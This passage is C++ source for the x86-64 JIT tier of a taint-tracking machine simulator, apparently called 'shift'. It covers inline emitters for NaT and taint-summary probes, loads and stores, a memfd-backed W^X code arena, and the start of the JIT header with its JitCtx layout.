        e_.movRegMem(RCX, R15, kOffFpCold);
        e_.cmpByteMemImm(RCX, dp.callee, 0);
        e_.jcc(CC_NE, slow);
    }

    void emitProbeCount(const DecodedInstr &dp, bool always)
    {
        if (!always && !(dp.p2 & 4))
            return;
        e_.movRegMem(RCX, R15, kOffFpEnters);
        e_.aluMemImm32_32(Emitter::ALU_ADD, RCX, dp.callee * 4, 1);
        e_.aluMemImm32(Emitter::ALU_ADD, R15, kOffFpEntered, 1);
    }

    /**
     * rsi = figure-4 fold of the data address in rsi: the tag-space
     * byte/word index the elided check would have read (clobbers
     * rax/rcx/rdx). Constants mirror the interpreter's FpChkProbe.
     */
    void emitFold(const DecodedInstr &dp)
    {
        const unsigned ds = dp.size == 1 ? 6 : 3;
        e_.movRegReg(RAX, RSI);
        e_.shiftRegImm(Emitter::SH_SHR, RAX, kRegionShift);
        e_.shiftRegImm(Emitter::SH_SHL, RAX,
                       uint8_t(kImplementedBits - ds));
        e_.movRegReg(RCX, RSI);
        e_.shiftRegImm(Emitter::SH_SHR, RCX, uint8_t(ds));
        e_.movRegImm64(RDX, lowMask(kImplementedBits - ds));
        e_.aluRegReg(Emitter::ALU_AND, RCX, RDX);
        e_.aluRegReg(Emitter::ALU_OR, RAX, RCX);
        e_.movRegReg(RSI, RAX);
    }

    /**
     * lineDirty(addrReg) via the summary's probe cache: fall through
     * when the cached way proves the line clean, jump to `slow` on a
     * way miss or a dirty bit (the caller's fallback replays with the
     * full lookup). Preserves addrReg; clobbers rax/rcx.
     */
    void emitSummaryLineAt(Reg addrReg, int slow)
    {
        e_.movRegReg(RCX, addrReg);
        e_.shiftRegImm(Emitter::SH_SHR, RCX, 12); // summary page key
        e_.movRegReg(RAX, RCX);
        e_.aluRegImm32(Emitter::ALU_AND, RAX,
                       int32_t(TaintSummary::kJitWays - 1));
        e_.shiftRegImm(Emitter::SH_SHL, RAX, 4); // ways are 16 bytes
        e_.aluRegMem(Emitter::ALU_ADD, RAX, R15, kOffSumWays);
        e_.aluRegMem(Emitter::ALU_CMP, RCX, RAX, kWayKeyOff);
        e_.jcc(CC_NE, slow);
        int clean = e_.newLabel();
        e_.movRegMem(RAX, RAX, kWayBitsOff);
        e_.testRegReg(RAX, RAX);
        e_.jcc(CC_E, clean); // null bits: known clean
        e_.movRegReg(RCX, addrReg);
        e_.shiftRegImm(Emitter::SH_SHR, RCX, 6); // cl = line (mod 64)
        e_.movRegMem(RAX, RAX, 0);
        e_.shiftRegCl(Emitter::SH_SHR, RAX);
        e_.aluRegImm32(Emitter::ALU_AND, RAX, 1);
        e_.jcc(CC_NE, slow);
        e_.bind(clean);
    }

    void emitSummaryLine(int slow) { emitSummaryLineAt(RSI, slow); }

    /** The probe's summary verdict: line for sizes 1/3, pair for 2. */
    void emitSummaryProbe(const DecodedInstr &dp, int slow)
    {
        emitSummaryLine(slow);
        if (dp.size == 2) {
            e_.aluRegImm32(Emitter::ALU_ADD, RSI, 1);
            emitSummaryLine(slow);
        }
    }

    /**
     * The common tail of an inline probe body: jump over the slow
     * path, which is the full helper call (alt-edge plumbing and all).
     */
    void emitProbeSlowTail(const DecodedInstr &dp, HelperFn fn,
                           size_t pc, bool inFast, int slow, int done)
    {
        e_.jmp(done);
        e_.bind(slow);
        emitHelperCall(dp, fn, pc, inFast);
        e_.bind(done);
    }

    /** FpEnter: entry counting and the cold-bail test, nothing else. */
    void emitFpEnter(const DecodedInstr &dp, size_t pc, bool inFast)
    {
        pending_.flush(e_);
        zeroMask();
        int slow = e_.newLabel();
        int done = e_.newLabel();
        emitProbeCold(dp, slow, true);
        emitProbeCount(dp, true);
        emitProbeSlowTail(dp, &JitOps::fpEnter, pc, inFast, slow, done);
    }

    /**
     * FpChkProbe: inline the clean verdict — NaT tests, the figure-4
     * fold, the cached summary lookup and pT := false. Any deopt
     * condition (or an uncached summary page) takes the full helper.
     */
    void emitFpChk(const DecodedInstr &dp, size_t pc, bool inFast)
    {
        pending_.flush(e_);
        zeroMask();
        int slow = e_.newLabel();
        int done = e_.newLabel();
        emitProbeCold(dp, slow, false);
        if (dp.p2 & 1) {
            e_.movRegMem(RSI, R14, gprVal(dp.r2));
            e_.cmpByteMemImm(R14, gprNat(dp.r2), 0);
            e_.jcc(CC_NE, slow);
            emitFold(dp);
        } else {
            e_.cmpByteMemImm(R14, gprNat(dp.r2), 0);
            e_.jcc(CC_NE, slow);
            e_.movRegMem(RSI, R14, gprVal(dp.br));
            e_.cmpByteMemImm(R14, gprNat(dp.br), 0);
            e_.jcc(CC_NE, slow);
        }
        emitSummaryProbe(dp, slow);
        if (dp.p1 != 0)
            e_.movByteMemImm(R13, dp.p1, 0);
        emitProbeCount(dp, false);
        emitProbeSlowTail(dp, &JitOps::fpChk, pc, inFast, slow, done);
    }

    /**
     * FpStProbe: the elided Tnat's predicate writes (p2 bit 1 set),
     * then the same clean verdict as FpChk plus the source-taint
     * test. The predicate writes are idempotent, so a slow path taken
     * after them replays safely.
     */
    void emitFpSt(const DecodedInstr &dp, size_t pc, bool inFast)
    {
        pending_.flush(e_);
        zeroMask();
        int slow = e_.newLabel();
        int done = e_.newLabel();
        if (dp.p2 & 2) {
            e_.movzxByteMem(RAX, R14, gprNat(dp.r3));
            if (dp.p1 != 0)
                e_.movByteMemReg(R13, dp.p1, RAX);
            if (dp.pos != 0) {
                e_.movRegReg(RCX, RAX);
                e_.aluRegImm32(Emitter::ALU_XOR, RCX, 1);
                e_.movByteMemReg(R13, dp.pos, RCX);
            }
            emitProbeCold(dp, slow, false);
            e_.testRegReg(RAX, RAX);
            e_.jcc(CC_NE, slow); // tainted source: deopt via helper
        } else {
            emitProbeCold(dp, slow, false);
            e_.cmpByteMemImm(R13, dp.p1, 0);
            e_.jcc(CC_NE, slow);
        }
        if (dp.p2 & 1) {
            e_.movRegMem(RSI, R14, gprVal(dp.r2));
            e_.cmpByteMemImm(R14, gprNat(dp.r2), 0);
            e_.jcc(CC_NE, slow);
            emitFold(dp);
        } else {
            e_.cmpByteMemImm(R14, gprNat(dp.r2), 0);
            e_.jcc(CC_NE, slow);
            e_.movRegMem(RSI, R14, gprVal(dp.br));
            e_.cmpByteMemImm(R14, gprNat(dp.br), 0);
            e_.jcc(CC_NE, slow);
        }
        emitSummaryProbe(dp, slow);
        emitProbeCount(dp, false);
        emitProbeSlowTail(dp, &JitOps::fpSt, pc, inFast, slow, done);
    }

    /** FpClrProbe: two register NaT tests guard the elided clear. */
    void emitFpClr(const DecodedInstr &dp, size_t pc, bool inFast)
    {
        pending_.flush(e_);
        zeroMask();
        int slow = e_.newLabel();
        int done = e_.newLabel();
        emitProbeCold(dp, slow, false);
        e_.cmpByteMemImm(R14, gprNat(dp.r1), 0);
        e_.jcc(CC_NE, slow);
        e_.cmpByteMemImm(R14, gprNat(dp.r2), 0);
        e_.jcc(CC_NE, slow);
        emitProbeCount(dp, false);
        emitProbeSlowTail(dp, &JitOps::fpClr, pc, inFast, slow, done);
    }

    /**
     * Plain St: inline twin of emitLd (plus src-NaT and writable).
     * The st8.spill form skips the source-NaT fault (a spill is how
     * NaT bits legally reach memory) and writes the bit to the page
     * sidecar and ar.unat instead.
     */
    void emitSt(const DecodedInstr &dp, size_t pc, bool inFast)
    {
        pending_.flush(e_);
        zeroMask();
        int slow = e_.newLabel();
        int done = e_.newLabel();
        e_.movRegMem(RSI, R14, gprVal(dp.r1));
        e_.cmpByteMemImm(R14, gprNat(dp.r1), 0);
        e_.jcc(CC_NE, slow);
        if (!dp.spill) {
            e_.cmpByteMemImm(R14, gprNat(dp.r2), 0);
            e_.jcc(CC_NE, slow);
        }
        emitTlbProbe(slow, dp.spill ? 8 : dp.size, true);
        e_.movRegMem(RDX, R14, gprVal(dp.r2));
        if (dp.spill) {
            e_.movMemReg(RAX, 0, RDX);
            emitSpillNatWrite(dp.r2);
        } else {
            switch (dp.size) {
              case 1: e_.movByteMemReg(RAX, 0, RDX); break;
              case 2: e_.movWordMemReg(RAX, 0, RDX); break;
              case 4: e_.movMemReg32(RAX, 0, RDX); break;
              default: e_.movMemReg(RAX, 0, RDX); break;
            }
        }
        emitRetireCall(&JitOps::stRetire, dp.statIdx);
        e_.jmp(done);
        e_.bind(slow);
        emitHelperCall(dp, &JitOps::st, pc, inFast);
        e_.bind(done);
    }

    /**
     * FusedClearNat: the spill-store + reload pair that launders a
     * register's NaT through the spill area. Inline body: the spill
     * store (data word, page sidecar, ar.unat), after which the
     * reload collapses — an in-page 8-byte read of the word just
     * stored returns the stored value, so the only architectural
     * effect left is clearing r1's NaT. The r1 == r3 alias (reload
     * target doubling as the address result) would reorder the
     * helper's interleaved writes and is excluded in emitBody.
     */
    void emitClearNat(const DecodedInstr &dp, size_t pc, bool inFast)
    {
        pending_.flush(e_);
        e_.movRegImm64(RBP, 1ULL << (dp.r1 & 63));
        mask_ = MaskState::load(dp.r1);
        int slow = e_.newLabel();
        int done = e_.newLabel();
        e_.movRegMem(RSI, R14, gprVal(dp.r2));
        if (dp.imm) {
            if (fitsInt32(dp.imm)) {
                e_.aluRegImm32(Emitter::ALU_ADD, RSI,
                               int32_t(dp.imm));
            } else {
                e_.movRegImm64(RDX, uint64_t(dp.imm));
                e_.aluRegReg(Emitter::ALU_ADD, RSI, RDX);
            }
        }
        e_.cmpByteMemImm(R14, gprNat(dp.r2), 0);
        e_.jcc(CC_NE, slow);
        emitTlbProbe(slow, 8, true);
        e_.movRegMem(RDX, R14, gprVal(dp.r1));
        e_.movMemReg(RAX, 0, RDX);
        emitSpillNatWrite(dp.r1);
        if (dp.r3 != 0) {
            e_.movMemReg(R14, gprVal(dp.r3), RSI);
            e_.movByteMemImm(R14, gprNat(dp.r3), 0);
        }
        if (dp.r1 != 0)
            e_.movByteMemImm(R14, gprNat(dp.r1), 0);
        emitRetireCall(&JitOps::clearNatRetire, dp.statIdx);
        e_.jmp(done);
        e_.bind(slow);
        emitHelperCall(dp, &JitOps::clearNat, pc, inFast);
        e_.bind(done);
    }

    /**
     * dst = the tag-space byte at rsi + delta, read through the tag
     * region's dedicated translation-cache entries (indexed by page
     * key, like Memory::tlbSlot); any miss condition (non-tag region,
     * uncached page) jumps to `slow`. Single-byte reads need no
     * in-page bound. Preserves rsi; clobbers rax/rcx/r10/r11.
     */
    void emitTagByteLoad(int slow, unsigned delta, Reg dst)
    {
        static_assert(kTagRegion == 0,
                      "the tag-slot test assumes tag == region 0");
        e_.movRegReg(RCX, RSI);
        if (delta)
            e_.aluRegImm32(Emitter::ALU_ADD, RCX, int32_t(delta));
        e_.movRegReg(RAX, RCX);
        e_.shiftRegImm(Emitter::SH_SHR, RAX, kRegionShift);
        e_.jcc(CC_NE, slow);
        e_.movRegReg(R10, RCX);
        e_.shiftRegImm(Emitter::SH_SHR, R10, Memory::kPageShift);
        // Entry = base + (key & (entries-1)) * sizeof(TlbEntry); the
        // 24-byte stride is composed as idx*8 + idx*16.
        e_.movRegReg(RAX, R10);
        e_.aluRegImm32(Emitter::ALU_AND, RAX,
                       int32_t(Memory::kJitTagTlbEntries - 1));
        e_.movRegReg(R11, RAX);
        e_.shiftRegImm(Emitter::SH_SHL, RAX, 3);
        e_.shiftRegImm(Emitter::SH_SHL, R11, 4);
        e_.aluRegReg(Emitter::ALU_ADD, RAX, R11);
        e_.aluRegMem(Emitter::ALU_ADD, RAX, R15, kOffTagTlb);
        e_.aluRegMem(Emitter::ALU_CMP, R10, RAX, kTlbKeyOff);
        e_.jcc(CC_NE, slow);
        e_.movRegMem(RAX, RAX, kTlbPageOff);
        e_.aluRegImm32(Emitter::ALU_AND, RCX,
                       int32_t(Memory::kPageSize - 1));
        e_.aluRegReg(Emitter::ALU_ADD, RAX, RCX);
        e_.movzxByteMem(dst, RAX, 0);
    }

    /**
     * FusedChkByte: inline the clean body — two tag-bitmap byte
     * loads through the dedicated tag cache entry, the bit extract
     * and the architectural writes — with the charges in the retire
     * leaf. A NaT address, an uncached tag page or a non-tag address
     * replays the full helper, which owns every fault path. Aliases
     * among r1/r2/r3 that would change the helper's interleaved
     * write order are excluded in emitBody.
     */
    void emitChkByte(const DecodedInstr &dp, size_t pc, bool inFast)
    {
        pending_.flush(e_);
        zeroMask();
        int slow = e_.newLabel();
        int done = e_.newLabel();
        e_.movRegMem(RSI, R14, gprVal(dp.br));
        e_.cmpByteMemImm(R14, gprNat(dp.br), 0);
        e_.jcc(CC_NE, slow);
        // Summary shortcut: a cached clean verdict for both covering
        // lines proves the two bitmap bytes are zero (the summary's
        // dirty bits cover every nonzero byte) without touching tag
        // memory at all. Miss or dirty falls back to the tag-cache
        // byte loads; the retire leaf charges identically either way
        // (the modeled accesses happen regardless of how the host
        // sourced the bits).
        int tagPath = e_.newLabel();
        int haveBits = e_.newLabel();
        e_.movRegReg(R11, RSI);
        emitSummaryLineAt(R11, tagPath);
        e_.aluRegImm32(Emitter::ALU_ADD, R11, 1);
        emitSummaryLineAt(R11, tagPath);
        e_.xorRegReg32(RDX, RDX);
        e_.jmp(haveBits);
        e_.bind(tagPath);
        emitTagByteLoad(slow, 0, RDX);
        emitTagByteLoad(slow, 1, R9);
        e_.shiftRegImm(Emitter::SH_SHL, R9, 8);
        e_.aluRegReg(Emitter::ALU_OR, RDX, R9); // 16-bit bitmap read
        e_.bind(haveBits);
        // r2 selects the bit; its NaT rides every result written.
        e_.movRegMem(RCX, R14, gprVal(dp.r2));
        e_.aluRegImm32(Emitter::ALU_AND, RCX, 7);
        e_.movzxByteMem(R10, R14, gprNat(dp.r2));
        e_.shiftRegCl(Emitter::SH_SHR, RDX);
        if (fitsInt32(dp.imm)) {
            e_.aluRegImm32(Emitter::ALU_AND, RDX, int32_t(dp.imm));
        } else {
            e_.movRegImm64(RAX, uint64_t(dp.imm));
            e_.aluRegReg(Emitter::ALU_AND, RDX, RAX);
        }
        e_.movMemReg(R14, gprVal(dp.r3), RCX);
        e_.movByteMemReg(R14, gprNat(dp.r3), R10);
        e_.movMemReg(R14, gprVal(dp.r1), RDX);
        e_.movByteMemReg(R14, gprNat(dp.r1), R10);
        if (dp.p1 != 0) {
            // pT := !nat && masked bits != 0
            e_.xorRegReg32(RAX, RAX);
            e_.testRegReg(RDX, RDX);
            e_.setcc(CC_NE, RAX);
            e_.movRegReg(RCX, R10);
            e_.aluRegImm32(Emitter::ALU_XOR, RCX, 1);
            e_.aluRegReg(Emitter::ALU_AND, RAX, RCX);
            e_.movByteMemReg(R13, int32_t(dp.p1), RAX);
        }
        emitRetireCall(&JitOps::chkByteRetire, dp.statIdx);
        e_.jmp(done);
        e_.bind(slow);
        emitHelperCall(dp, &JitOps::chkByte, pc, inFast);
        e_.bind(done);
    }

    /** MovToBr: two moves inline; the NaT fault stays in the helper. */
    void emitMovToBr(const DecodedInstr &dp, size_t pc, bool inFast)
    {
        pending_.flush(e_);
        zeroMask();
        int slow = e_.newLabel();
        int done = e_.newLabel();
        e_.cmpByteMemImm(R14, gprNat(dp.r2), 0);
        e_.jcc(CC_NE, slow);
        e_.movRegMem(RAX, R14, gprVal(dp.r2));
        e_.movRegMem(RCX, R15, kOffBrRegs);
        e_.movMemReg(RCX, int32_t(dp.br) * 8, RAX);
        emitChargeNow(dp.statIdx, env_.cycleModel.alu, 1);
        e_.jmp(done);
        e_.bind(slow);
        emitHelperCall(dp, &JitOps::aux, pc, inFast);
        e_.bind(done);
    }

    /** MovToUnat: one store inline; the NaT fault stays in the helper. */
    void emitMovToUnat(const DecodedInstr &dp, size_t pc, bool inFast)
    {
        pending_.flush(e_);
        zeroMask();
        int slow = e_.newLabel();
        int done = e_.newLabel();
        e_.cmpByteMemImm(R14, gprNat(dp.r2), 0);
        e_.jcc(CC_NE, slow);
        e_.movRegMem(RAX, R14, gprVal(dp.r2));
        e_.movRegMem(RCX, R15, kOffUnat);
        e_.movMemReg(RCX, 0, RAX);
        emitChargeNow(dp.statIdx, env_.cycleModel.alu, 1);
        e_.jmp(done);
        e_.bind(slow);
        emitHelperCall(dp, &JitOps::aux, pc, inFast);
        e_.bind(done);
    }

    /** MovFromUnat: a register write that cannot fault — no slow path. */
    void emitMovFromUnat(const DecodedInstr &dp)
    {
        zeroMask();
        if (dp.r1 != 0) {
            e_.movRegMem(RAX, R15, kOffUnat);
            e_.movRegMem(RAX, RAX, 0);
            e_.movMemReg(R14, gprVal(dp.r1), RAX);
            e_.movByteMemImm(R14, gprNat(dp.r1), 0);
        }
        pending_.add(dp.statIdx, env_.cycleModel.alu, 1);
    }

    /**
     * BrCall/BrCalli/BrRet: the helper applies the interpreter's call
     * or return semantics against the Machine and links across
     * compiled bodies — any return value above 2 is the target block
     * entry's host address and execution jumps there directly;
     * 1 means fault, stop or bail with the landing point already
     * spilled, so control leaves via the epilogue. These ops are
     * terminators (nothing after them in the block to refund) and
     * they retire inside the helper, so the block's step debit
     * stands.
     */
    void emitTransferCall(const DecodedInstr &dp, HelperFn fn,
                          size_t pc, bool inFast)
    {
        pending_.flush(e_);
        // The dispatch front end clears loadMask on every non-Ld op.
        zeroMask();
        e_.movMemReg(R15, kOffLoadMask, RBP);
        e_.movRegReg(RDI, R15);
        e_.movRegImm64(RSI, reinterpret_cast<uint64_t>(&dp));
        e_.movRegImm64(RDX,
                       uint64_t(pc) | (inFast ? (1ULL << 32) : 0));
        e_.movRegImm64(RAX, reinterpret_cast<uint64_t>(
                                reinterpret_cast<void *>(fn)));
        e_.callReg(RAX);
        e_.cmpRegImm32(RAX, 1);
        int go = e_.newLabel();
        e_.jcc(CC_NE, go);
        e_.jmp(epilogue_);
        e_.bind(go);
        e_.jmpReg(RAX);
    }

    /**
     * Built-in calls and system calls: same shape as emitTransferCall
     * plus the linked-continue arm — a zero return means the handler
     * ran and control advanced to pc + 1 in the same stream, so fall
     * straight into the successor block's compiled code instead of
     * bailing out for the rest of the superblock. These are
     * terminators too: the op retires inside the helper on every
     * path, so the block's step debit stands unrefunded.
     */
    void emitLinkedCall(const DecodedInstr &dp, HelperFn fn, size_t pc,
                        bool inFast)
    {
        pending_.flush(e_);
        zeroMask();
        e_.movMemReg(R15, kOffLoadMask, RBP);
        e_.movRegReg(RDI, R15);
        e_.movRegImm64(RSI, reinterpret_cast<uint64_t>(&dp));
        e_.movRegImm64(RDX,
                       uint64_t(pc) | (inFast ? (1ULL << 32) : 0));
        e_.movRegImm64(RAX, reinterpret_cast<uint64_t>(
                                reinterpret_cast<void *>(fn)));
        e_.callReg(RAX);
        e_.testRegReg(RAX, RAX);
        int moved = e_.newLabel();
        e_.jcc(CC_NE, moved);
        e_.jmp(blockLabel(inFast, pc + 1));
        e_.bind(moved);
        e_.cmpRegImm32(RAX, 1);
        int go = e_.newLabel();
        e_.jcc(CC_NE, go);
        e_.jmp(epilogue_);
        e_.bind(go);
        e_.jmpReg(RAX);
    }
};

} // namespace

CodeArena::~CodeArena()
{
#if SHIFT_JIT_BACKEND
    for (Chunk &c : chunks_) {
        if (c.rw)
            munmap(c.rw, c.cap);
        if (c.rx)
            munmap(const_cast<uint8_t *>(c.rx), c.cap);
    }
#endif
}

#if SHIFT_JIT_BACKEND
bool
CodeArena::grow(size_t need)
{
    size_t pageMask = size_t(sysconf(_SC_PAGESIZE)) - 1;
    size_t cap = std::max(kChunkBytes, (need + pageMask) & ~pageMask);
    int fd = memfd_create("shift-jit-code", MFD_CLOEXEC);
    if (fd < 0)
        return false;
    if (ftruncate(fd, off_t(cap)) != 0) {
        close(fd);
        return false;
    }
    void *rw = mmap(nullptr, cap, PROT_READ | PROT_WRITE, MAP_SHARED,
                    fd, 0);
    void *rx = rw == MAP_FAILED
                   ? MAP_FAILED
                   : mmap(nullptr, cap, PROT_READ | PROT_EXEC,
                          MAP_SHARED, fd, 0);
    // The two mappings keep the memfd alive; the descriptor can go.
    close(fd);
    if (rw == MAP_FAILED)
        return false;
    if (rx == MAP_FAILED) {
        munmap(rw, cap);
        return false;
    }
    chunks_.push_back({static_cast<uint8_t *>(rw),
                       static_cast<const uint8_t *>(rx), cap, 0});
    return true;
}
#endif

const void *
CodeArena::place(const void *bytes, size_t size)
{
#if SHIFT_JIT_BACKEND
    std::lock_guard<std::mutex> lock(mutex_);
    if (chunks_.empty() || chunks_.back().cap - chunks_.back().used < size) {
        if (!grow(size))
            return nullptr;
    }
    Chunk &c = chunks_.back();
    std::memcpy(c.rw + c.used, bytes, size);
    const void *rx = c.rx + c.used;
    // Keep placements cache-line aligned for the next block.
    c.used = (c.used + size + 63) & ~size_t(63);
    return rx;
#else
    (void)bytes;
    (void)size;
    return nullptr;
#endif
}

namespace
{

#if SHIFT_JIT_BACKEND
/**
 * Hand the emitted bytes to the arena when one is given (one memcpy,
 * no syscalls); otherwise copy them into a fresh private W^X buffer
 * (RW, fill, RX).
 */
std::unique_ptr<CompiledFunction>
sealBuffer(const Emitter &e, std::unique_ptr<CompiledFunction> out,
           CodeArena *arena)
{
    size_t size = e.size();
    if (arena) {
        if (const void *rx = arena->place(e.data(), size)) {
            out->buf = const_cast<void *>(rx);
            out->size = size;
            out->ownsBuf = false;
            out->thunk =
                reinterpret_cast<CompiledFunction::Thunk>(out->buf);
            return out;
        }
        // Arena unavailable (no memfd support): private buffer below.
    }
    void *buf = mmap(nullptr, size, PROT_READ | PROT_WRITE,
                     MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (buf == MAP_FAILED)
        return nullptr;
    std::memcpy(buf, e.data(), size);
    if (mprotect(buf, size, PROT_READ | PROT_EXEC) != 0) {
        munmap(buf, size);
        return nullptr;
    }
    out->buf = buf;
    out->size = size;
    out->thunk = reinterpret_cast<CompiledFunction::Thunk>(buf);
    return out;
}
#endif

} // namespace

bool
computeLeaders(const DecodedFunction &df, const CompileEnv &env,
               std::vector<uint8_t> &slowLead,
               std::vector<uint8_t> &fastLead)
{
    const auto &slow = df.code;
    const auto &fast = df.fast;
    if (slow.empty())
        return false;
    slowLead.assign(slow.size(), 0);
    fastLead.assign(fast.size(), 0);
    slowLead[0] = 1;
    if (!fast.empty())
        fastLead[0] = 1;
    // Leaders: targets, terminator successors, probe deopt pcs.
    auto mark = [&](const std::vector<DecodedInstr> &s, bool inFast) {
        for (size_t i = 0; i < s.size(); ++i) {
            const DecodedInstr &dp = s[i];
            if (isTerminator(dp.op) && i + 1 < s.size())
                (inFast ? fastLead : slowLead)[i + 1] = 1;
            if (dp.op == Opcode::Br || dp.op == Opcode::Chk) {
                auto t = size_t(dp.target);
                if (t >= s.size())
                    return false;
                (inFast ? fastLead : slowLead)[t] = 1;
                if (!inFast && env.fastEnabled && !df.fast.empty()) {
                    int32_t fe = df.fastEntry[t];
                    if (fe >= 0)
                        fastLead[size_t(fe)] = 1;
                }
            }
            if (inFast && isProbeOp(dp.op)) {
                auto t = size_t(dp.target);
                if (t >= df.code.size())
                    return false;
                slowLead[t] = 1;
            }
        }
        return true;
    };
    if (!mark(slow, false))
        return false;
    if (!fast.empty() && !mark(fast, true))
        return false;
    return true;
}

std::unique_ptr<CompiledFunction>
compileFunction(const DecodedFunction &df, const CompileEnv &env,
                CodeArena *arena)
{
#if SHIFT_JIT_BACKEND
    auto out = std::make_unique<CompiledFunction>();
    FunctionCompiler fc(df, env);
    if (!fc.emit(*out))
        return nullptr;
    return sealBuffer(fc.emitter(), std::move(out), arena);
#else
    (void)df;
    (void)env;
    (void)arena;
    return nullptr;
#endif
}

std::unique_ptr<CompiledFunction>
compileBlock(const DecodedFunction &df, const CompileEnv &env,
             int funcIndex, bool inFast, size_t pc,
             const std::atomic<const void *> *slowSlots,
             const std::atomic<const void *> *fastSlots,
             const std::vector<uint8_t> &slowLead,
             const std::vector<uint8_t> &fastLead,
             CodeArena *arena)
{
#if SHIFT_JIT_BACKEND
    auto out = std::make_unique<CompiledFunction>();
    FunctionCompiler fc(df, env);
    if (!fc.emitLazyBlock(*out, funcIndex, inFast, pc, slowSlots,
                          fastSlots, slowLead, fastLead))
        return nullptr;
    return sealBuffer(fc.emitter(), std::move(out), arena);
#else
    (void)df;
    (void)env;
    (void)funcIndex;
    (void)inFast;
    (void)pc;
    (void)slowSlots;
    (void)fastSlots;
    (void)slowLead;
    (void)fastLead;
    (void)arena;
    return nullptr;
#endif
}

std::unique_ptr<CompiledFunction>
compileEntryThunk()
{
#if SHIFT_JIT_BACKEND
    Emitter e;
    emitEntryThunk(e);
    e.finalize();
    auto out = std::make_unique<CompiledFunction>();
    // The entry thunk gets its own private buffer: it outlives cache
    // flushes and needs no arena bookkeeping.
    return sealBuffer(e, std::move(out), nullptr);
#else
    return nullptr;
#endif
}

} // namespace shift::jit
