/**
 * @file
 * The JIT tier: copy-and-patch compilation of hot predecoded streams
 * to host x86-64 (see docs/JIT.md).
 *
 * The predecoded interpreter pays a fetch/dispatch front end on every
 * micro-op; that indirect branch is the dominant host cost once the
 * fused micro-ops (docs/EXECUTION-ENGINE.md) and the taint-clean fast
 * tier (docs/FAST-PATH.md) have shrunk the op count. This tier removes
 * it: when a function's entry counter crosses the promotion threshold,
 * both of its streams (the instrumented `code` stream and its fast
 * twin) are compiled whole into one executable buffer of host code.
 *
 * Lowering is template-style, per micro-op:
 *  - Plain ALU/compare/branch micro-ops and the FusedTagAddr fold are
 *    emitted inline, with cycle/instruction charges constant-folded
 *    and coalesced per straight-line run.
 *  - The hot memory forms (plain loads/stores, spill/fill), the
 *    FusedChkByte/FusedClearNat macro-ops, the Fp* summary probes and
 *    the unat/branch-register moves get inline fast paths that probe
 *    Memory's translation cache and the taint summary's way cache
 *    directly through JitCtx, with the op's charges folded into a
 *    small non-faulting "retire" leaf call. Any miss condition — and
 *    every op without an inline body — calls a hand-written C++
 *    helper (src/jit/runtime.cc) that replays the interpreter's exact
 *    architectural semantics: register writes, charges, stalls, cache
 *    accesses, fault points.
 *  - Calls and returns link across compiled bodies: the transfer
 *    helper resolves the landing point to a compiled block entry and
 *    the call site jumps there directly, so call-heavy code stays
 *    native. System calls and unresolvable landings exit ("bail")
 *    back to the interpreter at the op's own pc. Probe deopts stay
 *    inside the compiled unit: they jump straight to the compiled
 *    slow-stream block at the elided group's own pc, reusing the
 *    mid-block-safe deopt protocol of docs/FAST-PATH.md.
 *
 * Compiled code is Machine-agnostic: all mutable state is reached
 * through a per-run JitCtx (so a SessionTemplate's clones share one
 * read-only code cache), while DecodedInstr addresses and pc constants
 * are baked in (the decode result is shared and immutable). Buffers
 * are mmap'd RW, filled, then flipped to RX before publication.
 *
 * Portability: everything here compiles everywhere, but codegen only
 * activates when SHIFT_JIT_BACKEND is 1 (x86-64 host, SHIFT_ENABLE_JIT
 * build option on). Elsewhere available() is false, compilation
 * returns the uncompilable sentinel, and the interpreter runs alone.
 */

#ifndef SHIFT_JIT_JIT_HH
#define SHIFT_JIT_JIT_HH

#include <atomic>
#include <condition_variable>
#include <cstddef>
#include <cstdint>
#include <deque>
#include <memory>
#include <mutex>
#include <thread>
#include <vector>

#include "sim/cycle_model.hh"
#include "sim/decoded.hh"
#include "support/stats.hh"

#if defined(SHIFT_ENABLE_JIT) && defined(__x86_64__) &&                \
    defined(__GNUC__) && (defined(__linux__) || defined(__APPLE__))
#define SHIFT_JIT_BACKEND 1
#else
#define SHIFT_JIT_BACKEND 0
#endif

namespace shift
{

class Machine;
struct CpuFeatures;

namespace jit
{

/** True when this build/host can actually generate and run code. */
bool available();

/**
 * The per-run mutable view compiled code executes against. One lives
 * in each Machine; every pointer is re-derived per run, so the same
 * read-only code serves every clone of a template. Field offsets are
 * baked into emitted code — keep layout changes in sync with the
 * static_asserts below and the compiler's Off constants.
 */
struct JitCtx
{
    Machine *m = nullptr;       ///< for helper calls (never baked)
    uint64_t *cyFlat = nullptr; ///< cyclesBy_ viewed flat
    uint64_t *inFlat = nullptr; ///< instrsBy_ viewed flat
    void *gpr = nullptr;        ///< Gpr[kNumGpr]: val@16r, nat@16r+8
    bool *pred = nullptr;       ///< predicate file
    uint8_t *fpCold = nullptr;  ///< per-superblock cold flags
    uint64_t *brRegs = nullptr; ///< branch register file

    // Accumulators the interpreter folds into its locals on exit.
    uint64_t cycles = 0;
    uint64_t instrs = 0;
    uint64_t stall = 0;     ///< load-use stall cycles (also in cycles)
    uint64_t coldBails = 0; ///< fast-tier cold bails taken in JIT code
    uint64_t deopts = 0;    ///< probe-guard failures taken in JIT code

    uint64_t loadMask = 0;  ///< live-out load-use mask
    int64_t stepsLeft = 0;  ///< remaining step budget (signed)
    uint64_t exitPc = 0;    ///< dense pc to resume the interpreter at
    uint64_t exitInFast = 0; ///< stream exitPc indexes (0/1)

    /**
     * Memory's indexed translation-cache entries (Memory::jitTlb):
     * the inline load/store fast paths probe them directly.
     */
    const void *tlb = nullptr;

    /**
     * The taint summary's probe-cache ways (TaintSummary::jitWays):
     * the inline Fp* probe bodies read cached verdicts directly.
     */
    const void *sumWays = nullptr;

    /** Per-superblock fast-tier entry counters (fpEnters_, u32). */
    void *fpEnters = nullptr;

    /** fpEnteredTotal_ accumulator, folded on exit like the others. */
    uint64_t fpEntered = 0;

    /** ar.unat (Machine::unat_): the inline spill paths update it. */
    uint64_t *unat = nullptr;

    /**
     * The tag region's dedicated translation-cache entry
     * (Memory::jitTagTlb): the inline FusedChk bodies read the taint
     * bitmap through it.
     */
    const void *tagTlb = nullptr;
};

static_assert(offsetof(JitCtx, cyFlat) == 8 &&
                  offsetof(JitCtx, inFlat) == 16 &&
                  offsetof(JitCtx, gpr) == 24 &&
                  offsetof(JitCtx, pred) == 32 &&
                  offsetof(JitCtx, fpCold) == 40 &&
                  offsetof(JitCtx, brRegs) == 48 &&
                  offsetof(JitCtx, cycles) == 56 &&
                  offsetof(JitCtx, instrs) == 64 &&
                  offsetof(JitCtx, stall) == 72 &&
                  offsetof(JitCtx, coldBails) == 80 &&
